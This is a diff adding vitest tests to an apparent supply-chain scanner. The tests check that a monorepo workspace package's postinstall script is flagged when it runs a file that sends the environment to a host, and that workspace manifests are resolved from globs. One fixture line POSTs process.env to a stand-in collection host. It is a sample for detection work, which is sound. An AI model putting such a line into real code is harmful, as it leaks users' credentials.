@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { readBehaviors } from '../../../src/ecosystems/build-code/behaviors.js';
 import type { BuildLanguage } from '../../../src/ecosystems/build-code/behaviors.js';
 import { readCallBehaviors } from '../../../src/ecosystems/build-code/build-calls.js';
-import { filesRunBy, installManifestsWanted } from '../../../src/ecosystems/build-code/build-files.js';
+import { filesRunBy, installManifestsWanted, workspaceManifestsWanted } from '../../../src/ecosystems/build-code/build-files.js';
 import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';
@@ -344,6 +344,39 @@ module.exports = { hooks: { readPackage } };
     // Not a script no install script runs, nor another file.
     expect(found(withBase({ build: 'node scripts/setup.js' }, setup))).toEqual([]);
     expect(found(withBase({ postinstall: 'node scripts/other.js' }, setup))).toEqual([]);
+  });
+
+  it("reads a file a monorepo workspace package's install script runs (that package.json read at the base)", () => {
+    const collect = "fetch('https://collect.example.net/in', { method: 'POST', body: JSON.stringify(process.env) });";
+    const setup = makeFile('packages/cli/scripts/setup.js', { status: 'modified', additions: 1, patch: `@@ -1,1 +1,2 @@\n 'use strict';\n+${collect}` });
+    const withBase = (path: string, scripts: Record<string, string>) => ({ ...snapshotOf(setup), baseFiles: [{ path: 'package.json', content: pkg({}) }, { path, content: pkg({ scripts }) }] });
+    const found = (snapshot: ReturnType<typeof snapshotOf>) => analyze(snapshot).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
+    expect(found(withBase('packages/cli/package.json', { postinstall: 'node scripts/setup.js' }))).toEqual([
+      ['packages/cli/scripts/setup.js', 'critical', 'postinstall script of packages/cli/package.json sends credentials or the environment to a host at npm install time'],
+    ]);
+    // Another package's script of the same name runs its own file, not this one.
+    expect(found(withBase('packages/web/package.json', { postinstall: 'node scripts/setup.js' }))).toEqual([]);
+  });
+
+  it('asks for the workspace package.json that holds such a file, from the workspaces the root manifest or pnpm-workspace.yaml lists', () => {
+    const file = (path: string, ...added: string[]) => ({ path, removed: false, patch: `@@ -1,1 +1,${added.length + 1} @@\n 'use strict';\n${added.map((l) => `+${l}`).join('\n')}` });
+    const setup = file('packages/cli/scripts/setup.js', "require('./stage.js');");
+    const root = (workspaces: unknown) => JSON.stringify({ name: 'mono', private: true, ...(workspaces === undefined ? {} : { workspaces }) });
+    expect(workspaceManifestsWanted([setup], root(['packages/*']), null)).toEqual(['packages/cli/package.json']);
+    expect(workspaceManifestsWanted([setup], root({ packages: ['packages/**'] }), null)).toEqual(['packages/cli/package.json']);
+    expect(workspaceManifestsWanted([setup], root(['packages/cli', 'packages/web']), null)).toEqual(['packages/cli/package.json']);
+    expect(workspaceManifestsWanted([setup], root(undefined), 'packages:\n  - "packages/*"\n  - "!**/test/**"\n')).toEqual(['packages/cli/package.json']);
+    // Scoped folders two levels down, two packages, each once.
+    const scoped = file('libs/@acme/core/install.js', 'fetch(url)');
+    expect(workspaceManifestsWanted([scoped, setup, file('packages/cli/scripts/other.js', 'fetch(url)')], root(['libs/@acme/*', 'packages/*']), null)).toEqual(['libs/@acme/core/package.json', 'packages/cli/package.json']);
+    // No workspaces, a file outside them, a workspace manifest the PR changes, a change that does nothing at install: nothing.
+    expect(workspaceManifestsWanted([setup], root(undefined), null)).toEqual([]);
+    expect(workspaceManifestsWanted([file('tools/release/publish.js', 'fetch(url)')], root(['packages/*']), null)).toEqual([]);
+    expect(workspaceManifestsWanted([setup, { path: 'packages/cli/package.json', removed: false, patch: null }], root(['packages/*']), null)).toEqual([]);
+    expect(workspaceManifestsWanted([file('packages/cli/src/render.ts', 'export const WIDTH = 80;')], root(['packages/*']), null)).toEqual([]);
+    // Malformed manifests and workspace files are nothing, not a crash.
+    expect(workspaceManifestsWanted([setup], '{ broken', 'packages: [')).toEqual([]);
+    expect(workspaceManifestsWanted([setup], root([42, null, 'x'.repeat(500)]), null)).toEqual([]);
   });
 
   it('asks for the base package.json only when the PR does not change it and adds install-time work to a file an install script may run', () => {
